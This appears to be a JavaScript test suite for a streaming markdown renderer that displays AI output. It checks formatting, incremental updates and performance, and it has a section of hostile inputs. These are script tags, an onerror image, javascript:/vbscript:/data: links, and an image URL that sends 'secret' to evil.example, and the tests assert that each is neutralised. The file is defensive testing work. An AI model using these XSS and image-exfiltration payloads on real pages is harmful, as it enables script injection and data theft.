/** What models write becomes nodes; what they try to smuggle in becomes text. */

import assert from "node:assert/strict";
import {test} from "node:test";
import {runInNewContext} from "node:vm";

import {updateMarkdown} from "../../durable_agents/static/durable_agents/markdown.js";
import {fakeDocument} from "./fakedom.mjs";

function render(t, text) {
  const element = fakeDocument(t).createElement("div");
  updateMarkdown(element, text);
  return element.innerHTML;
}

for (const [markdown, html] of [
  ["", ""],
  ["one\ntwo\n\nthree", "<p>one\ntwo</p><p>three</p>"],
  ["# Title #\n## Next", "<h3>Title</h3><h4>Next</h4>"],
  ["a\n\n---\n***", "<p>a</p><hr></hr><hr></hr>"],
  ["**bold** *slanted* ***both*** __b__ _i_ ~~gone~~", "<p><strong>bold</strong> <em>slanted</em> <strong><em>both</em></strong> <strong>b</strong> <em>i</em> <del>gone</del></p>"],
  ["**3.** On *day `12`* two", "<p><strong>3.</strong> On <em>day <code>12</code></em> two</p>"],
  ["2 * 3 * 4 and snake_case_name and ~5", "<p>2 * 3 * 4 and snake_case_name and ~5</p>"],
  ["\\*not\\* `co*d*e` ``a`b`` ` x `", "<p>*not* <code>co*d*e</code> <code>a`b</code> <code>x</code></p>"],
  ["half **bold and `code", "<p>half **bold and `code</p>"],
  ["- a\n- b\n  - c\n- d", "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"],
  ["Text:\n1. a\n2. b\nstill b", "<p>Text:</p><ol><li>a</li><li>b\nstill b</li></ol>"],
  ["3. c\n\n   more\n\n4. d\n\nafter", '<ol start="3"><li><p>c</p><p>more</p></li><li><p>d</p></li></ol><p>after</p>'],
  ["- a\n\n- b\n* c", "<ul><li>a</li><li>b</li></ul><ul><li>c</li></ul>"],
  ["> quoted\n> - list\nafter", "<blockquote><p>quoted</p><ul><li>list</li></ul></blockquote><p>after</p>"],
  ["```py\nif a < b:\n\n    **c**\n```\nafter", "<pre><code>if a &lt; b:\n\n    **c**</code></pre><p>after</p>"],
  ["````\n```\n````", "<pre><code>```</code></pre>"],
  ["```\nnot closed yet", "<pre><code>not closed yet</code></pre>"],
  ["- item\n  ```\n  code\n  ```", "<ul><li>item<pre><code>code</code></pre></li></ul>"],
  ["a | b\n--|:-:\n1 | `2\\|3` | 4", "<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td><code>2|3</code></td></tr></tbody></table></div>"],
  ["a | b\nno table", "<p>a | b\nno table</p>"],
  ["[**site**](https://example.org/a_(b) \"title\")", '<p><a href="https://example.org/a_(b)"><strong>site</strong></a></p>'],
  ["see https://example.org/a?b=c.", '<p>see <a href="https://example.org/a?b=c">https://example.org/a?b=c</a>.</p>'],
  ["[mail](mailto:a@example.org)", '<p><a href="mailto:a@example.org">mail</a></p>'],
]) {
  test(`markdown ${JSON.stringify(markdown).slice(0, 60)}`, (t) => assert.equal(render(t, markdown), html));
}

for (const [hostile, html] of [
  ["<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"],
  ["<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"],
  ["[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>"],
  ["[x](JaVaScRiPt:alert)", "<p>[x](JaVaScRiPt:alert)</p>"],
  ["[x](data:text/html,hi)", "<p>[x](data:text/html,hi)</p>"],
  ["[x](vbscript:x) [y](//evil.example) [z](/admin/)", "<p>[x](vbscript:x) [y](//evil.example) [z](/admin/)</p>"],
  ["![secret](https://evil.example/?q=secret)", '<p><a href="https://evil.example/?q=secret">secret</a></p>'],
]) {
  test(`hostile ${hostile} stays harmless`, (t) => assert.equal(render(t, hostile), html));
}

test("a link opens elsewhere, tells nobody where from, and shows where it leads", (t) => {
  const element = fakeDocument(t).createElement("div");
  updateMarkdown(element, "[your bank](https://evil.example/)");
  const [{rel, target, title}] = element.children[0].children;
  assert.deepEqual({rel, target, title}, {rel: "noopener noreferrer nofollow", target: "_blank", title: "https://evil.example/"});
});

test("while text grows, finished blocks keep their elements", (t) => {
  const element = fakeDocument(t).createElement("div");
  updateMarkdown(element, "first\n\nsec");
  const [first, second] = element.children;
  updateMarkdown(element, "first\n\nsecond\n\nthird");
  assert.equal(element.children[0], first);
  assert.notEqual(element.children[1], second);
  assert.equal(element.innerHTML, "<p>first</p><p>second</p><p>third</p>");
  updateMarkdown(element, "other");
  assert.equal(element.innerHTML, "<p>other</p>");
});

test("every beginning of a text can be shown, and growing gives what the whole gives", (t) => {
  const whole = "# A\n\n- **b** [c](https://d.example/)\n  1. `e`\n\n| f | g |\n|---|---|\n| h | i |\n\n```js\nj\n```\n> k *l*\n\nend";
  const element = fakeDocument(t).createElement("div");
  for (let length = 0; length <= whole.length; length++) updateMarkdown(element, whole.slice(0, length));
  assert.equal(element.innerHTML, render(t, whole));
});

test("a paragraph may have more pieces than a call takes arguments", (t) => {
  assert.equal(render(t, "**a** `b` ".repeat(100_000)).length, "<p></p>".length + "<strong>a</strong> <code>b</code> ".length * 100_000 - 1);
});

for (const unit of ["*a ", "**", "`", "[", "[a](", "> ", "- ", "_a_", "a|", "![x](http://a ", "  - a\n", "http://a", "~~~", "\\", "\n\n\n", "`` ` "]) {
  test(`a hundred thousand characters of ${JSON.stringify(unit)} can be shown`, (t) => {
    const show = () => render(t, unit.repeat(100_000 / unit.length));
    // Half a second is usual. One look back at all that was read, for each character, takes longer than anybody waits.
    runInNewContext("show()", {show}, {timeout: 20_000});
  });
}
